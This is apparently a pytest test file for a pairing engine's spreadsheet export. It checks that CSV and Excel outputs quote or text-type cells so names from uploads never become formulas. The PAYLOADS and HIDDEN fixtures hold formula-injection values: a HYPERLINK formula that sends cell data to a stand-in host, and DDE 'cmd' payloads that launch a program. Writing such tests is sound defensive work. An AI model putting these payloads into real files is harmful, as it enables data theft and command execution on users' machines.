"""Exported spreadsheets are inert: names from uploads never become formulas (OWASP)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from engine.pairing import PairingProposal, load_week, proposal_bytes, propose_pairings
from tests.fakes import FakeEmbedder

WEEK = Path(__file__).resolve().parents[1] / "data" / "sample" / "week"
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?d="&A2,"klik")',
    "+": "+1+1",
    "-": "-2+3",
    "@": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "dde": "=cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def proposal() -> PairingProposal:
    """Hosts and interns named with each payload (the rest of the sample week as it is)."""
    week = load_week(WEEK / "hosts.csv", WEEK / "interns.csv", WEEK / "locks.csv")
    payloads = list(PAYLOADS.values())
    interns = [
        replace(intern, name=payloads[n]) if n < len(payloads) else intern
        for n, intern in enumerate(week.interns)
    ]
    hosts = [
        replace(host, unit_name=payloads[n]) if n < len(payloads) else host
        for n, host in enumerate(week.hosts)
    ]
    return propose_pairings(hosts, interns, FakeEmbedder(), locks=week.locks)


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_csv_cells_starting_like_a_formula_are_quoted(
    proposal: PairingProposal, start: str
) -> None:
    payload = PAYLOADS[start]
    text = proposal_bytes(proposal, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = [row["Praktikant"] for row in rows] + [row["Vært"] for row in rows]
    assert "'" + payload in names
    assert payload not in names


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_excel_cells_starting_like_a_formula_are_typed_text(
    proposal: PairingProposal, start: str
) -> None:
    payload = PAYLOADS[start]
    data = proposal_bytes(proposal, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
    workbook = load_workbook(io.BytesIO(data))
    as_read = payload.replace("\r", "\n")  # XML reads a raw carriage return as a line feed
    rows = workbook["Forslag"].iter_rows()
    cells = [c for row in rows for c in row if c.value in (payload, as_read)]
    assert cells, f"{payload!r} is missing from the Excel file"
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # stays text when someone edits the cell in Excel


def test_numbers_stay_numbers(proposal: PairingProposal) -> None:
    workbook = load_workbook(io.BytesIO(proposal_bytes(proposal, "xlsx")))
    sheet = workbook["Forslag"]
    header = [c.value for c in sheet[1]]
    first = [c for c in sheet[2]]
    by_column = dict(zip(header, first, strict=True))
    assert by_column["Dage"].data_type == "n" and isinstance(by_column["Dage"].value, int)
    fit = by_column["Samlet match"]
    assert fit.data_type == "n" and isinstance(fit.value, float)
    text = proposal_bytes(proposal, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    fits = [row["Samlet match"] for row in rows if row["Samlet match"]]
    assert all(re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", fit) for fit in fits)


HIDDEN = {"semicolon": "Anne;=1+1;", "comma": "Bo,=cmd|' /C calc'!A0", "both": "Ib;x,@SUM(1)"}


@pytest.fixture(scope="module")
def separated() -> PairingProposal:
    """Interns whose names hide a formula after a separator (issue 21, item 6)."""
    week = load_week(WEEK / "hosts.csv", WEEK / "interns.csv", WEEK / "locks.csv")
    names = list(HIDDEN.values())
    interns = [
        replace(intern, name=names[n]) if n < len(names) else intern
        for n, intern in enumerate(week.interns)
    ]
    return propose_pairings(week.hosts, interns, FakeEmbedder(), locks=week.locks)


def test_csv_is_inert_whether_split_on_commas_or_semicolons(separated: PairingProposal) -> None:
    text = proposal_bytes(separated, "csv").decode()
    for delimiter in (",", ";"):
        # As a reader that honours quotes (every field is quoted, so the name is one cell) ...
        cells = [
            c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row
        ]
        assert not [c for c in cells if c.startswith(("=", "+", "@"))], delimiter
        # ... and as one that splits on the separator whatever the quotes say.
        pieces = [p.strip('"') for line in text.splitlines() for p in line.split(delimiter)]
        assert not [p for p in pieces if p.startswith(("=", "+", "-", "@", "\t"))], delimiter
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {row["Praktikant"] for row in rows}
    assert {"Anne;'=1+1;", "Bo,'=cmd|' /C calc'!A0", "Ib;x,'@SUM(1)"} <= names
    assert all(line.startswith('"') for line in text.splitlines())  # every field quoted


def test_the_excel_file_keeps_such_names_as_text(separated: PairingProposal) -> None:
    workbook = load_workbook(io.BytesIO(proposal_bytes(separated, "xlsx")))
    cells = [c for row in workbook["Forslag"].iter_rows() for c in row]
    found = [c for c in cells if c.value in HIDDEN.values()]
    assert len(found) == len(HIDDEN)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
